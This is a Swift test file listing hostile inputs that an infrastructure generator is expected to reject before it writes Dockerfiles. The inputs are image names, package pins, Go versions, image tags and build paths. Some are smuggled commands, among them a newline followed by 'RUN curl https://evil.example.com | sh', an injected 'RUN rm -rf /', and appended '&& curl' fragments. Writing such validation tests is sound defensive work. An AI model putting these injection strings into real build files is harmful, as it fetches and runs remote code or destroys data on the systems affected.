import Infragen
import InfragenYAML

extension HostileCorpus {
    // MARK: - Values bound for Dockerfiles

    static func dockerBound() -> [HostileCase] {
        var cases: [HostileCase] = []
        refusedService(&cases, "base-image-with-a-space", "base", "is not a valid image reference") { f in
            Base(.custom("alpine 3.19", family: .alpine), fileID: f, line: 10)
        }
        refusedService(&cases, "base-image-with-a-newline", "base", "is not a valid image reference") { f in
            Base(.custom("alpine:3.19\nRUN curl https://evil.example.com | sh", family: .alpine), fileID: f, line: 10)
        }
        refusedService(&cases, "base-image-with-capitals", "base", "is not a valid image reference") { f in
            Base(.custom("Alpine:3.19", family: .alpine), fileID: f, line: 10)
        }
        refusedService(&cases, "builder-image-with-capitals", "builder", "is not a valid image reference") { f in
            Go(version: "1.22", builder: "Golang:1.22", fileID: f, line: 10)
        }
        refusedService(
            &cases, "pinned-package-with-a-newline", "base.packages", "is not a package name and version"
        ) { f in
            Base(.alpine("3.19").pinning(["ca-certificates\nRUN rm -rf /": "1"]), fileID: f, line: 10)
        }
        refusedService(
            &cases, "pinned-package-version-with-a-space", "base.packages", "is not a package name and version"
        ) { f in
            Base(.alpine("3.19").pinning(["ca-certificates": "1 && curl"]), fileID: f, line: 10)
        }
        refusedService(&cases, "go-version-with-a-command", "go.version", "is not a Go version") { f in
            Go(version: "1.22 && curl", fileID: f, line: 10)
        }
        refusedService(&cases, "image-tag-with-a-space", "image.tag", "is not a valid image tag") { f in
            ImageTag("1.0 beta", fileID: f, line: 10)
        }
        refusedService(&cases, "image-tag-latest", "image.tag", "does not say which build runs", count: 2) { f in
            ImageTag("latest", fileID: f, line: 10)
        }
        // Fixed here: valid tags, but the version label they become is not a valid Kubernetes label value.
        refusedService(
            &cases, "image-tag-over-63-characters", "image.tag", "app.kubernetes.io/version", count: 2
        ) { f in
            ImageTag(String(repeating: "7", count: 100), fileID: f, line: 10)
        }
        refusedService(
            &cases, "image-tag-starting-with-an-underscore", "image.tag", "app.kubernetes.io/version", count: 2
        ) { f in
            ImageTag("_build", fileID: f, line: 10)
        }
        refusedService(&cases, "image-digest-malformed", "image.digest", "is not an image digest") { f in
            ImageTag("1.0.0", digest: "sha256:xyz", fileID: f, line: 10)
        }
        refusedService(
            &cases, "image-registry-with-capitals", "image.registry", "is not an image repository prefix"
        ) { f in
            ImageRegistry("registry.example.com/Shop", fileID: f, line: 10)
        }
        refusedService(
            &cases, "image-registry-with-a-tag", "image.registry", "is not an image repository prefix"
        ) { f in
            ImageRegistry("registry.example.com/shop:1", fileID: f, line: 10)
        }
        refusedService(&cases, 
            "build-main-outside-the-context", "build.main", "is not a relative path inside the build context"
        ) { f in
            Build(main: "../outside", fileID: f, line: 10)
        }
        refusedService(
            &cases, "build-main-with-a-space", "build.main", "is not a relative path inside the build context"
        ) { f in
            Build(main: "./cmd/api server", fileID: f, line: 10)
        }
        refusedService(
            &cases, "version-variable-with-a-flag", "build.versionVariable", "is not a Go variable path"
        ) { f in
            Build(versionVariable: "main.version -X main.evil=1", fileID: f, line: 10)
        }
        // Fixed here: "-X" passed the old character check and would be read by the linker as a flag.
        refusedService(
            &cases, "version-variable-that-is-a-flag", "build.versionVariable", "is not a Go variable path"
        ) { f in
            Build(versionVariable: "-X", fileID: f, line: 10)
        }
        return cases
    }
}
